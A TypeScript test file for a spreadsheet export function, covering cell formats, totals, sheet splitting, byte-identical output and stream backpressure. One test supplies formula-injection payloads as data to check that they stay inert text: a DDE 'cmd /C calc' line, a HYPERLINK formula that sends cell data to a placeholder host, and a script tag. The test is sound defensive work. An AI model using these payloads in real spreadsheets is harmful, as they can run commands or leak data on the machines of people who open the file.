import { PassThrough } from 'node:stream'
import Excel from 'exceljs'
import { describe, expect, test, vi } from 'vitest'
import { type Columna, escribirLibro, type Libro } from '#functions/exportaciones/libro'

interface Fila {
  id: number
  texto: string | null
  pesos: number
  dia: string | null
  viva: boolean
}
const fila = (id: number, cambios: Partial<Fila> = {}): Fila => ({
  id,
  texto: `texto ${id}`,
  pesos: id * 100_50,
  dia: '2026-11-20',
  viva: true,
  ...cambios,
})
const COLUMNAS: Columna<Fila>[] = [
  { titulo: 'Número', ancho: 10, tipo: 'entero', valor: f => f.id },
  { titulo: 'Texto', ancho: 30, tipo: 'texto', valor: f => f.texto },
  { titulo: 'Valor', ancho: 16, tipo: 'dinero', valor: f => f.pesos, suma: true },
  { titulo: 'Día', ancho: 12, tipo: 'dia', valor: f => f.dia },
]
async function* enPaginas(filas: readonly Fila[], tamano = 2) {
  for (let i = 0; i < filas.length; i += tamano) yield filas.slice(i, i + tamano)
}
const libroDe = (filas: readonly Fila[], cambios: Partial<Libro<Fila>> = {}): Libro<Fila> => ({
  nombreDeHoja: 'Lista',
  creado: '2026-11-20T15:00:00.000Z',
  columnas: COLUMNAS,
  cuenta: f => f.viva,
  textoDelTotal: 'Total',
  paginas: enPaginas(filas),
  alAvanzar: async () => undefined,
  ...cambios,
})

/** Writes a workbook and opens it again, as a spreadsheet would. */
async function abrir(libro: Libro<Fila>) {
  const flujo = new PassThrough()
  const trozos: Buffer[] = []
  flujo.on('data', (trozo: Buffer) => trozos.push(trozo))
  const filas = await escribirLibro(flujo, libro)
  const abierto = new Excel.Workbook()
  await abierto.xlsx.load(Buffer.concat(trozos) as never)
  return { filas, abierto, hoja: abierto.worksheets[0]! }
}
const valores = (hoja: Excel.Worksheet, row: number) => (hoja.getRow(row).values as unknown[]).slice(1)

describe('a workbook', () => {
  test('has numbers as numbers, days as days, texts as texts, each in its format', async () => {
    const { hoja, filas } = await abrir(libroDe([fila(1, { texto: '0012' })]))
    expect(filas).toBe(1)
    expect(valores(hoja, 1)).toEqual(['Número', 'Texto', 'Valor', 'Día'])
    expect(valores(hoja, 2)).toEqual([1, '0012', 100.5, new Date('2026-11-20T00:00:00.000Z')])
    expect([1, 2, 3, 4].map(i => hoja.getRow(2).getCell(i).numFmt)).toEqual([
      '0',
      '@',
      '"$" #,##0.00',
      'dd/mm/yyyy',
    ])
  })

  test('has a header that stays, a filter over the rows, and widths', async () => {
    const { hoja, abierto } = await abrir(libroDe([fila(1), fila(2)]))
    expect(hoja.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(hoja.autoFilter).toBe('A1:D3')
    expect(hoja.getColumn(2).width).toBe(30)
    expect(hoja.getRow(1).getCell(1).font).toMatchObject({ bold: true })
    expect(abierto.creator).toBe('Veta')
  })

  test('of the same rows is the same file, byte by byte, whenever it is written', async () => {
    const escribir = async () => {
      const flujo = new PassThrough()
      const trozos: Buffer[] = []
      flujo.on('data', (trozo: Buffer) => trozos.push(trozo))
      await escribirLibro(flujo, libroDe([fila(1), fila(2)]))
      return Buffer.concat(trozos)
    }
    vi.useFakeTimers({ toFake: ['Date'], now: Date.parse('2026-11-20T15:00:00.000Z') })
    try {
      const primero = await escribir()
      vi.setSystemTime(Date.parse('2031-02-03T04:05:06.000Z'))
      expect(Buffer.compare(await escribir(), primero)).toBe(0)
    } finally {
      vi.useRealTimers()
    }
  })

  test('sums up what counts in its last row, to the centavo', async () => {
    const { hoja } = await abrir(libroDe([fila(1), fila(2, { viva: false }), fila(3, { pesos: 1 })]))
    expect(valores(hoja, 5)).toEqual(['Total', undefined, 100.51])
  })

  test('leaves the cells of nothing empty, and has no totals where nothing is summed', async () => {
    const sinSuma = COLUMNAS.map(({ titulo, ancho, tipo, valor }) => ({ titulo, ancho, tipo, valor }))
    const { hoja } = await abrir(libroDe([fila(1, { texto: null, dia: null })], { columnas: sinSuma }))
    expect(valores(hoja, 2)).toEqual([1, undefined, 100.5])
    expect(hoja.actualRowCount).toBe(2)
  })

  test('of no rows is a header and zeros', async () => {
    const { hoja, filas } = await abrir(libroDe([]))
    expect(filas).toBe(0)
    expect(valores(hoja, 2)).toEqual(['Total', undefined, 0])
  })

  test('goes on in a further sheet when one is full; the totals stand at the end', async () => {
    const cinco = [1, 2, 3, 4, 5].map(id => fila(id))
    const { abierto } = await abrir(libroDe(cinco, { filasPorHoja: 2 }))
    expect(abierto.worksheets.map(hoja => hoja.name)).toEqual(['Lista', 'Lista 2', 'Lista 3'])
    expect(abierto.worksheets.map(hoja => hoja.actualRowCount)).toEqual([3, 3, 3])
    expect(valores(abierto.worksheets[2]!, 3)[2]).toBe(1507.5)
  })
})

describe('text of other people in a workbook', () => {
  test.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://ejemplo.test?x="&A1,"Ver")',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1;1)',
    '\t=1+1',
    '<script>alert(1)</script> & "comillas"',
    'Ñandú 😀',
  ])('%j is a text cell with nothing to calculate, unchanged', async texto => {
    const { hoja } = await abrir(libroDe([fila(1, { texto })]))
    const celda = hoja.getRow(2).getCell(2)
    expect(celda.value).toBe(texto)
    expect([celda.formula, celda.hyperlink, celda.numFmt]).toEqual([undefined, undefined, '@'])
  })

  test('that the format cannot hold is left out, and does not break the file', async () => {
    const { hoja } = await abrir(libroDe([fila(1, { texto: `a\u0000b\u001b${'x'.repeat(40_000)}` })]))
    const { text } = hoja.getRow(2).getCell(2)
    expect(text).toMatch(/^abx+$/)
    expect(text.length).toBeLessThanOrEqual(32_767)
  })
})

test('rows are not read faster than the file goes out', async () => {
  const PAGINAS = 400
  let leidas = 0
  let vueltas = 0
  async function* muchas() {
    for (; leidas < PAGINAS; leidas++) {
      vueltas = 0
      yield Array.from({ length: 250 }, (_, i) => fila(leidas * 250 + i, { texto: crypto.randomUUID() }))
    }
  }
  const flujo = new PassThrough()
  const escrito = escribirLibro(flujo, libroDe([], { paginas: muchas() }))
  // Nobody takes the file: after a while nobody asks for rows either.
  while (vueltas++ < 3000) await new Promise(done => setImmediate(done))
  expect(leidas).toBeLessThan(PAGINAS / 2)
  flujo.resume()
  expect(await escrito).toBe(PAGINAS * 250)
})
